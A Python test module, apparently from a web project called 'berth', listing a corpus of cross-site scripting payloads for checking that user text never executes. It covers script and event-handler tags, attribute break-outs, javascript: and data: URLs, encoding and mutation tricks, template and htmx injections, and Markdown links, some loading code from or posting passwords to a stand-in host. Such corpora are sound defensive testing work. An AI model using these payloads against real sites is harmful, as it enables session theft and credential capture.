"""What people have written where a text was asked for, to have it run: the corpus.

Each payload would call `berthXss`, ask for an address that has `berth-xss` in it, or change the
page in a way that `hooks.js` sees, if any page, script or parser took it for more than text. Each
is there for a reason of its own; the groups say which.
"""

CALL = "berthXss()"

# Elements that run a script, or something as good as one, when they are made.
ELEMENTS = (
    f"<script>{CALL}</script>",
    "<script src=/berth-xss.js></script>",
    "<script src=//elsewhere.example/berth-xss.js></script>",
    f"<ScRiPt >{CALL}</sCrIpT\n>",
    f"<script/x>{CALL}</script/x>",
    f"<script>{CALL}",
    f"<script\x0c>{CALL}</script>",
    f"<<script>{CALL}//<</script>",
    f'<script type="module">{CALL}</script>',
    "<script src=data:text/javascript,berthXss()></script>",
    f"<img src=x onerror={CALL}>",
    f"<img src=x onerror={CALL}//",
    f"<IMG SRC=x OnErRoR='{CALL}'>",
    f"<img/src='x'/onerror={CALL}>",
    f"<img src=x:berth-xss onerror={CALL}>",
    "<img src=/berth-xss.png>",
    "<img srcset='//elsewhere.example/berth-xss.png 1x'>",
    f"<image src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href=data:,{CALL} /></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:berthXss()><text y=20>berth-xss</text></a></svg>",
    "<svg><use href=data:image/svg+xml,berth-xss#x></use></svg>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:berthXss()></svg>",
    "<iframe src=javascript:berthXss()></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    "<iframe src=//elsewhere.example/berth-xss></iframe>",
    f"<iframe onload={CALL}>",
    "<object data=javascript:berthXss()></object>",
    "<object data=data:text/html,<script>berthXss()</script>></object>",
    "<embed src=/berth-xss.svg>",
    f"<body onload={CALL}>",
    f"<body onpageshow={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<video src=x onerror={CALL}>",
    f"<audio src=x onerror={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<a href=# id=berth-xss autofocus tabindex=0 onfocus={CALL}>",
    f"<div style=animation:x onanimationstart={CALL}>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationend={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<button popovertarget=berth-xss>b</button><p id=berth-xss popover onbeforetoggle={CALL}>",
    "<base href=//elsewhere.example/berth-xss/>",
    "<meta http-equiv=refresh content='0;url=javascript:berthXss()'>",
    "<meta http-equiv=refresh content=0;url=/berth-xss>",
    "<link rel=stylesheet href=//elsewhere.example/berth-xss.css>",
    "<link rel=prefetch href=/berth-xss>",
    "<form action=javascript:berthXss()><button>berth-xss</button></form>",
    "<form id=berth-xss></form><button form=berth-xss formaction=javascript:berthXss()>b</button>",
    "<form action=//elsewhere.example/berth-xss><input name=password></form>",
    "<math><maction actiontype=statusline xlink:href=javascript:berthXss()>x</maction></math>",
    f"<x-berth-xss onclick={CALL} tabindex=1 autofocus onfocus={CALL}>",
)
# Out of an attribute, an element, a comment, a script or a style sheet that the text may stand in.
BREAK_OUTS = (
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f'" onmouseover="{CALL}" x="',
    f"' onfocus='{CALL}' autofocus='",
    f"` onerror=`{CALL}",
    f" onfocus={CALL} autofocus ",
    f"x onfocus={CALL} autofocus tabindex=0",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</noscript><img src=x onerror={CALL}>",
    f"</pre></code><img src=x onerror={CALL}>",
    f"</option></select><img src=x onerror={CALL}>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f"';{CALL};//",
    f'";{CALL};//',
    f"\\';{CALL};//",
    f'\\"-{CALL}}}//',
    f"${{{CALL}}}",
    f"'-{CALL}-'",
    f"\u2028{CALL}\u2029",
    "}</style>*{background:url(/berth-xss)}",
    "x;background:url(//elsewhere.example/berth-xss)",
    "expression(berthXss())",
    "@import '/berth-xss.css';",
)
# Where an address is wanted.
ADDRESSES = (
    "javascript:berthXss()",
    "JaVaScRiPt:berthXss()",
    "\x01javascript:berthXss()",
    " javascript:berthXss()",
    "java\tscript:berthXss()",
    "java\nscript:berthXss()",
    "javascript&colon;berthXss()",
    "javascript&#58;berthXss()",
    "&#106;avascript:berthXss()",
    "javascript://elsewhere.example/%0aberthXss()",
    "vbscript:berthXss()",
    "data:text/html,<script>berthXss()</script>",
    "data:text/html;base64,PHNjcmlwdD5iZXJ0aFhzcygpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='berthXss()'/>",
    "//elsewhere.example/berth-xss",
    "\\\\elsewhere.example\\berth-xss",
    "https://elsewhere.example/berth-xss",
)
# Not markup before something has decoded, folded or normalized it.
ENCODED = (
    "&lt;script&gt;berthXss()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=berthXss()&amp;gt;",
    "&#60;img src=x onerror=berthXss()&#62;",
    "&#x3C;img src=x onerror=berthXss()&#x3E;",
    "&#60img src=x onerror=berthXss()>",
    "%3Cscript%3EberthXss()%3C/script%3E",
    "%253Cscript%253EberthXss()%253C/script%253E",
    "\\u003cscript\\u003eberthXss()\\u003c/script\\u003e",
    "\\x3cscript\\x3eberthXss()\\x3c/script\\x3e",
    "+ADw-script+AD4-berthXss()+ADw-/script+AD4-",
    "\uff1cscript\uff1eberthXss()\uff1c/script\uff1e",
    "\u02c2img src=x onerror=berthXss()\u02c3",
    "<\u017fcript>berthXss()</\u017fcript>",
    "<script\ufffd>berthXss()</script>",
    "<im\u200bg src=x onerror=berthXss()>",
    "\u202e<script>)(ssXhtreb</script>\u202c",
    "<img src=x on\u00a0error=berthXss()>",
    "\u00bcscript\u00beberthXss()\u00bc/script\u00be",
    "\U0001f600<img src=x onerror=berthXss()>",
)
# What a parser makes of it is not what it makes of its own answer (mutation).
MUTATING = (
    '<noscript><p title="</noscript><img src=x onerror=berthXss()>">',
    '<svg></p><style><a id="</style><img src=x onerror=berthXss()>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=berthXss()></style></mglyph></table>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=berthXss()>",
    "<svg><![CDATA[><img src=x onerror=berthXss()>]]></svg>",
    "<template><script>berthXss()</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=berthXss()></template></div>",
    '<xmp><p title="</xmp><img src=x onerror=berthXss()>"></xmp>',
    "<plaintext><img src=x onerror=berthXss()>",
    "<table><td background=/berth-xss><img src=x onerror=berthXss()></table>",
    '<a href="x`<img src=x onerror=berthXss()>`">',
    "<!--><img src=x onerror=berthXss()>-->",
    "<!--!><script>berthXss()</script>--!>",
    "<?xml version='1.0'?><img src=x onerror=berthXss()>",
)
# What Django's templates, other template engines, or htmx would take for instructions.
INSTRUCTIONS = (
    "{{ request.user.password }}{{ settings.SECRET_KEY }}berth-xss",
    "{% load static %}{% debug %}berth-xss",
    "{# berth-xss #}{% comment %}",
    "{{constructor.constructor('berthXss()')()}}",
    "#{berthXss()}",
    "<%= berthXss() %>",
    "%(berth-xss)s %s %d {0} {berth-xss} {}",
    "<b hx-on:htmx:load=berthXss()>berth-xss</b>",
    "<b hx-on--load=berthXss() data-hx-on:load=berthXss()>berth-xss</b>",
    "<b hx-get=/berth-xss hx-trigger=load>berth-xss</b>",
    "<b data-hx-get=/berth-xss data-hx-trigger=load>berth-xss</b>",
    "<b hx-post=/sign-out hx-trigger='every 1s' hx-target=body>berth-xss</b>",
    "<b hx-vals='js:{x: berthXss()}' hx-get=/berth-xss hx-trigger=load>x</b>",
    "<b hx-headers='js:{x: berthXss()}' hx-get=/berth-xss hx-trigger=revealed>x</b>",
    "<b hx-trigger='load[berthXss()]' hx-get=/berth-xss>x</b>",
    "<b hx-disable></b><b hx-boost=true><a href=/berth-xss>x</a></b>",
    "<b hx-ext=berth-xss hx-swap-oob=true id=content>x</b>",
    '" hx-get="/berth-xss" hx-trigger="load" x="',
    "' hx-on::load='berthXss()' x='",
    "<b data-copy>berth-xss</b><pre data-copy>berth-xss</pre>",
    "<b data-theme-switch x-data=berthXss() x-init=berthXss() @click=berthXss() v-html=x>x</b>",
)
# Markdown that becomes markup.
MARKDOWN = (
    "[a](javascript:berthXss())",
    "[a](JaVaScRiPt:berthXss())",
    "[a](<javascript:berthXss()>)",
    "[a](java&#10;script:berthXss())",
    "[a](&#106;avascript:berthXss())",
    "[a](data:text/html,berth-xss)",
    "[a](vbscript:berthXss())",
    "[a](//elsewhere.example/berth-xss)",
    "[a](https://elsewhere.example/x 'y\" onmouseover=\"berthXss()')",
    "[a](/sign-out?berth-xss)",
    "![a](javascript:berthXss())",
    "![a](https://elsewhere.example/berth-xss.png)",
    '![a" onerror="berthXss()](x)',
    "<javascript:berthXss()>",
    '<https://elsewhere.example/"onmouseover=berthXss()>',
    "[a][berth-xss]\n\n[berth-xss]: javascript:berthXss()",
    "`<img src=x onerror=berthXss()>`",
    "    <img src=x onerror=berthXss()>",
    "a <b onclick=berthXss()>b</b> *c*",
    "https://elsewhere.example/<img/src=x/onerror=berthXss()>",
    "| a |\n|---|\n| <img src=x onerror=berthXss()> |",
    "```<img src=x onerror=berthXss()>\nberth-xss\n```",
    '~~~" onmouseover="berthXss()\nberth-xss\n~~~',
    "# <img src=x onerror=berthXss()>",
    "<!-- berth-xss",
)
PAYLOADS = tuple(
    dict.fromkeys(ELEMENTS + BREAK_OUTS + ADDRESSES + ENCODED + MUTATING + INSTRUCTIONS + MARKDOWN)
)


def texts(field: str) -> list[str]:
    """The payloads as the texts of one field, whose name is behind each: so it is seen where."""
    return [f"{payload};{field}" for payload in PAYLOADS]


# Within the grammar of names and tags nothing above can be written; these can.
NAMES = (
    *("onload", "onerror", "javascript", "script", "constructor", "hx-on", "hx-get", "data"),
    *("prototype", "href", "src", "null", "undefined", "nan", "true", "0x3c", "alert.1"),
)
TAGS = (*NAMES, "__proto__", "_onload", "onError", "JavaScript", "__html", "_.-", "1e1000")
# The same for media types (RFC 6838 allows `!#$&^_.+-` as well).
MEDIA_TYPES = (
    "application/onload.berthXss",
    "application/x!#$&^_.+-berth-xss",
    "text/html",
    "text/javascript",
    "image/svg+xml",
    "javascript/berthXss",
    "application/x$-.berthXss",
    "application/x&lt.berth-xss",
    "application/x&#60",
)
